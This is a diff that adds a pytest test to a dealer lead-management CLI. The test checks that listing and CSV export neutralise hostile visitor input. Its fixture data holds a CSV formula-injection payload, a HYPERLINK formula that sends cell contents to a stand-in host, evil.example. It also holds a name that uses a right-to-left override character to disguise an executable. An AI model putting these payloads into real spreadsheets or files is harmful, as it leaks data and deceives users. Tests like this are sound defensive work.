@@ -202,3 +202,26 @@ def test_cli_lists_and_exports_leads(
     assert rows[0]["trade_in"] == "yes" and rows[0]["trade_in_plate"] == "AB-123-C"
     assert rows[1]["name"] == "Jörg Müller" and rows[1]["topic"] == "workshop"
     assert rows[1]["trade_in_plate"] == "" and rows[1]["delivery"] == "-"
+
+
+def test_the_dealers_tools_never_run_or_reorder_what_a_visitor_typed(
+    empty_engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    monkeypatch.setattr("dealer.leads.report.get_engine", lambda: empty_engine)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Bekijk")'
+    reversed_name = "Anna \u202efdp.exe"
+    store(empty_engine, "hostile-key-000001", name=reversed_name, message=formula)
+
+    assert cli.main(["list"]) == 0
+    listed = capsys.readouterr().out
+    assert "\u202e" not in listed and "Anna <U+202E>fdp.exe" in listed
+
+    target = tmp_path / "leads.csv"
+    assert cli.main(["export", "--csv", str(target)]) == 0
+    with target.open(encoding="utf-8") as handle:
+        (row,) = list(csv.DictReader(handle))
+    assert row["message"] == "'" + formula  # text, not a formula, in a spreadsheet
+    assert row["name"] == "Anna <U+202E>fdp.exe"
+    (lead,) = leads(empty_engine)
+    assert lead.payload["name"] == reversed_name and lead.payload["message"] == formula
